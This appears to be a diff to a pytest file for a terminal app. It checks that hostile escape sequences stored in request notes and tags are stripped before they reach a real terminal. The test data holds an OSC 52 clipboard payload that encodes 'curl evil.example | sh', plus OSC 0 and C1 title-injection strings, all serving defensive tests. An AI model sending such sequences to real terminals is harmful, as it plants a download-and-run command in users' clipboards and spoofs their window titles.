@@ -38,9 +38,11 @@ OWN = re.compile(r"\x1b\]22;[a-z-]+\x07|\x1b\]22;[a-z-]+\x1b\\\\|\x1bP=[12]s\x1b
 INTRODUCERS = ("\x1b]", "\x1bP", "\x1b_", "\x1bc", "\x9d", "\x9b", "\x90")
 
 
-def run_on_pty(data: Path, keys: list[str], term: str = "xterm-256color", args: tuple[str, ...] = ("triage",)) -> bytes:
+def run_on_pty(data: Path, keys: list[str], term: str = "xterm-256color", args: tuple[str, ...] = ("triage",), stderr_elsewhere: bool = False) -> bytes:
     pid, fd = pty.fork()
     if pid == 0:  # the child: tui, with the pty as its terminal
+        if stderr_elsewhere:
+            os.dup2(os.open(os.devnull, os.O_WRONLY), 2)
         os.environ.update(TUI_DATA_DIR=str(data), TUI_CONFIG_DIR=str(data.parent / "config"), TERM=term, COLORTERM="truecolor")
         os.execv(TUI, [TUI, *args])
     fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
@@ -106,7 +108,7 @@ def test_benign_run_leaves_nothing_but_text(tmp_path: Path) -> None:
 def test_hostile_cards_write_no_hostile_bytes(hostile_data: Path, term: str) -> None:
     keys = ["s"] * 60 + ["c", "\x1b", "h", "\x1b", "t", "\x1b", "q"]
     raw = run_on_pty(hostile_data, keys, term)
-    assert b"of 171 pending" in raw or b"171 pending" in raw, raw[-400:]
+    assert f"{len(corpus())} pending".encode() in raw, raw[-400:]
     rest = leftovers(raw)
     # The clipboard payload was on screen, visibly defused: its ESC shown as U+FFFD.
     assert "\ufffd]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" in rest
@@ -119,9 +121,26 @@ def test_hostile_cards_write_no_hostile_bytes(hostile_data: Path, term: str) -> 
 
 @pytest.mark.parametrize("args", [("list",), ("show", "r5"), ("show", "r150"), ("stats",), ("dedup",), ("export", "--format", "csv"), ("export", "--format", "vcard"), ("export", "--format", "json")])
 def test_cli_on_a_terminal_writes_no_escape_at_all(hostile_data: Path, args: tuple[str, ...]) -> None:
-    """The command line writes no escape sequence of its own, so on a terminal there must be none."""
-    raw = run_on_pty(hostile_data, [], args=args)
+    """The command line writes no escape sequence of its own, so on a terminal there must be none.
+    (But for `tui dedup`'s progress bar, drawn on stderr with escapes by design when there are over
+    200 requests to match: stderr goes elsewhere for it, and its stdout is checked.)"""
+    raw = run_on_pty(hostile_data, [], args=args, stderr_elsewhere=args == ("dedup",))
     text = raw.decode("utf-8")
     assert text.strip(), "nothing was written"
     assert forbidden(text.replace("\n", "").replace("\r", "")) == [], args
     PATHS[f"tui {args[0]} on a pty"] = len(corpus())
+
+
+def test_edit_dialog_writes_no_hostile_bytes(tmp_path: Path) -> None:
+    """`e` puts a stranger's notes and tags into an Input and a TextArea: what they draw must be the
+    cleaned text, or an OSC 52 in the notes sets the user's clipboard and an OSC 0 the title."""
+    data = tmp_path / "data"
+    notes = "before \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 mid \x1b]0;pwned title\x1b\\ \x9d0;c1 title\x9c after\u202e"
+    Store.open(data).add_request(Request(name="Plain Person", notes=notes, tags=["\x1b]0;tag title\x07", "\x1b]52;c;dGFn\x1b\\"]))
+    raw = run_on_pty(data, ["e", "\x1b", "q"])
+    rest = leftovers(raw)
+    assert "Notes and tags" in rest and "before" in rest, rest[-400:]
+    for introducer in INTRODUCERS:
+        assert introducer not in rest, f"{introducer!r} reached the terminal"
+    assert forbidden(rest.replace("\n", "").replace("\r", "").replace("\x08", "")) == []
+    PATHS["edit dialog on a real pty"] = 2
